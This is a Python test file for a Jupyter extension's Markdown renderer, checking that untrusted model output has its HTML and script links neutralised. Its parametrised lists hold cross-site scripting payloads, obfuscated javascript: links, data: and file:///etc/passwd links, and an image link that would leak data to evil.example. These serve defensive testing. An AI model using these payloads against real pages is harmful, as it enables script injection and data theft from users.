"""Rendering untrusted model Markdown: HTML and script links neutralised, Markdown intact."""

from __future__ import annotations

import re

import pytest

from jupyter_providers._render import markdown_html, safe_markdown

ATTACKS = [
    "<img src=x onerror=alert(1)>",
    "<script>alert(1)</script>",
    "<iframe src='https://evil.example'></iframe>",
    "<a href='javascript:alert(1)'>click</a>",
    "<svg onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">x</div>',
]
BAD_LINKS = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](  javascript:alert(1) )",
    "[x](<javascript:alert(1)>)",
    "[x](jav&#x61;script:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "<javascript:alert(1)>",
    "[x][ref]\n\n[ref]: javascript:alert(1)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_markdown_html_escapes_raw_html(attack: str) -> None:
    out = markdown_html(f"Before {attack} after\n\n{attack}\n")
    assert "<" + attack[1:4] not in out  # no tag of the attack survives as a tag
    assert "&lt;" + attack[1:4] in out  # ... it shows as text


@pytest.mark.parametrize("link", BAD_LINKS)
def test_markdown_html_drops_script_links(link: str) -> None:
    out = markdown_html(link).lower()
    assert "<a " not in out, out
    assert not re.search(r"(href|src)\s*=", out)


def test_markdown_html_keeps_markdown() -> None:
    out = markdown_html(
        "# Title\n\n**bold**, *it*, `x < y`, ~~gone~~\n\n1. one\n2. two\n\n"
        "[site](https://example.com/a?b=1) <https://example.org> [mail](mailto:a@b.c) [rel](#part)\n\n"
        "| a | b |\n|---|---|\n| 1 | 2 |\n\n> quoted\n\n```python\nif a < b:\n    print('<b>')\n```\n\n    indented\n"
    )
    assert "<h1>Title</h1>" in out and "<strong>bold</strong>" in out and "<em>it</em>" in out
    assert "<code>x &lt; y</code>" in out and "<s>gone</s>" in out
    assert "<ol>" in out and "<li>one</li>" in out
    assert '<a href="https://example.com/a?b=1" target="_blank" rel="noopener noreferrer nofollow">site</a>' in out
    assert 'href="https://example.org"' in out and 'href="mailto:a@b.c"' in out and 'href="#part"' in out
    assert "<table>" in out and "<td>1</td>" in out and "<blockquote>" in out
    pres = re.findall(r"<pre [^>]*>", out)
    assert len(pres) == 2 and all('class="jp-providers-code"' in p and "overflow-x:auto" in p for p in pres)
    assert "monospace" in pres[0]
    assert '<code class="language-python">if a &lt; b:\n    print(&#x27;&lt;b&gt;&#x27;)' in out or (
        "<code class=\"language-python\">if a &lt; b:\n    print('&lt;b&gt;')" in out
    )


def test_markdown_html_shows_images_as_text() -> None:
    """An image would be fetched by the browser as soon as it shows: a way to leak data."""
    out = markdown_html("![secret](https://evil.example/leak?q=42)")
    assert "<img" not in out and "src=" not in out
    assert "secret" in out  # the alt text and the address stay readable, as a plain link


def test_markdown_html_code_info_string_is_escaped() -> None:
    out = markdown_html('```"><script>alert(1)</script>\ncode\n```\n')
    assert "<script" not in out and "code" in out


# -- safe_markdown (Markdown in, Markdown out, for a renderer that allows HTML) -----------------
def test_safe_markdown_escapes_html_outside_code() -> None:
    out = safe_markdown("Hi <script>alert(1)</script> <img src=x onerror=alert(1)> & `<b>code</b>`")
    assert "<script" not in out and "<img" not in out
    assert "&lt;script&gt;" in out and "&amp;" in out
    assert "`<b>code</b>`" in out  # code spans are shown literally by any renderer


def test_safe_markdown_keeps_fences_and_quotes() -> None:
    src = "> quoted\n\n```html\n<script>ok in code</script>\n```\n\n<b>after</b>"
    out = safe_markdown(src)
    assert out.startswith("> quoted")
    assert "```html\n<script>ok in code</script>\n```" in out
    assert out.endswith("&lt;b&gt;after&lt;/b&gt;")


@pytest.mark.parametrize(
    "link", ["[x](javascript:alert(1))", "[x]( JavaScript:alert(1))", "[x](data:text/html,hi)", "[x](file:///etc)"]
)
def test_safe_markdown_blocks_script_links(link: str) -> None:
    out = safe_markdown(link)
    assert out == "[x](#blocked-link)"


def test_safe_markdown_blocks_bare_script_schemes() -> None:
    assert "javascript:" not in safe_markdown("<javascript:alert(1)>").lower()


def test_the_two_agree_on_the_attacks() -> None:
    for attack in ATTACKS:
        assert "<" + attack[1:4] not in markdown_html(safe_markdown(attack))
